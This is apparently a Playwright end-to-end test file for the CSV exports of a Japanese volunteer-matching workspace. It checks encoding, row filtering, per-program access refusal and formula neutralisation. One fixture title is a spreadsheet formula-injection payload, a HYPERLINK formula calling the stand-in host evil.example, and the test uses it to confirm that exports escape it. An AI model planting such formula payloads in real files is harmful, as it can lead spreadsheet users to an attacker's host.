/// <reference lib="dom" />
import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { fitsWidth } from '../support/browser';
import { matchRequest, unique } from '../support/fixtures';
import {
  chooseLocale,
  DESKTOP,
  signedInPage,
  twoProgramScene,
  workspaceShot as shot,
} from '../support/workspace-pages';

/**
 * CSV downloads in real Chromium against the real stack: the match list with its filters and a program's KPIs, as
 * files Excel opens with the Japanese intact (UTF-8 with a BOM), cells quoted and formulas neutralised, and nothing of
 * a program the person does not cover.
 */
describe('CSV downloads from the workspace, in real Chromium', () => {
  const scene = twoProgramScene();
  const coordinator = { name: '鈴木 一郎', email: `coord.${unique('c')}@npo.example.jp`, locale: 'ja' as const };
  const tag = unique('exp');
  /** A title a spreadsheet would run as a formula, with a comma and quotes in it. */
  const formulaTitle = `=HYPERLINK("http://evil.example/?${tag}","開く"), 長野`;

  beforeAll(async () => {
    await scene.stack.createMatch({ coordinator, title: formulaTitle });
    await scene.stack.createMatch({ coordinator, title: `老舗旅館の予約サイト刷新 ${tag}` });
    await scene.stack.createMatch({ coordinator, title: '別の案件（絞り込みで外れる）' });
    // A match of another program, with the same words in its title.
    const other = await scene.stack.api.request(
      'POST',
      '/matches',
      matchRequest(scene.otherProgram, { title: `他県の案件 ${tag}` }),
    );
    expect(other.status).toBe(201);
  });

  /** Clicks the page's download link; the file's bytes. */
  async function download(page: Page): Promise<Buffer> {
    const [file] = await Promise.all([page.waitForEvent('download'), page.locator('#download').click()]);
    return readFile((await file.path())!);
  }
  const rowsOf = (bytes: Buffer) => parse(bytes, { bom: true }) as string[][];

  it('downloads the match list with its filters, in Japanese that Excel reads, with the formula neutralised', async () => {
    const { context, page } = await signedInPage(scene.browser, scene.stack, coordinator.email);
    await page.goto(`${scene.stack.api.url}/workspace/matches?q=${encodeURIComponent(tag)}`);
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, 'matches-download-ja-360');
    const bytes = await download(page);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('\r\n');
    const [header, ...rows] = rowsOf(bytes);
    expect(header!.slice(0, 6)).toEqual(['ID', 'プログラム', 'プロジェクト', '地域', 'フェーズ', 'ステータス']);
    // The filter held: the two matches with the words, not the third, not the other program's.
    expect(rows.map((r) => r[2]).sort()).toEqual([`'${formulaTitle}`, `老舗旅館の予約サイト刷新 ${tag}`].sort());
    expect(rows.every((r) => r[1] === scene.stack.programId)).toBe(true);
    expect(rows[0]![3]).toBe('長野県');
    await context.close();
  });

  it('downloads a program’s KPIs in English at desktop width; another program’s are refused', async () => {
    await chooseLocale(scene.stack, scene.manager, 'en');
    const { context, page } = await signedInPage(scene.browser, scene.stack, scene.manager, DESKTOP);
    await page.goto(`${scene.stack.api.url}/workspace/programs/${encodeURIComponent(scene.stack.programId)}`);
    await shot(page, 'program-download-en-1280');
    const [header, overall, ...rest] = rowsOf(await download(page));
    expect(header!.slice(0, 4)).toEqual(['Breakdown', 'Group', 'Matches started', 'Active']);
    expect(overall!.slice(0, 2)).toEqual(['Overall', 'ふるさと兼業 テストプログラム']);
    expect(Number(overall![2])).toBeGreaterThanOrEqual(3);
    expect(rest.some((r) => r[0] === 'Cohort' && /^\d{4}-\d{2}$/.test(r[1]!))).toBe(true);
    expect(rest.some((r) => r[0] === 'Region' && r[1] === '長野県')).toBe(true);

    for (const path of [
      `/workspace/programs/${encodeURIComponent(scene.otherProgram)}/kpis.csv`,
      `/workspace/matches.csv?program=${encodeURIComponent(scene.otherProgram)}`,
    ]) {
      const refused = await page.goto(`${scene.stack.api.url}${path}`);
      expect(refused?.status()).toBe(403);
      expect(refused?.headers()['content-type']).toContain('text/html');
    }
    await context.close();
  });
});
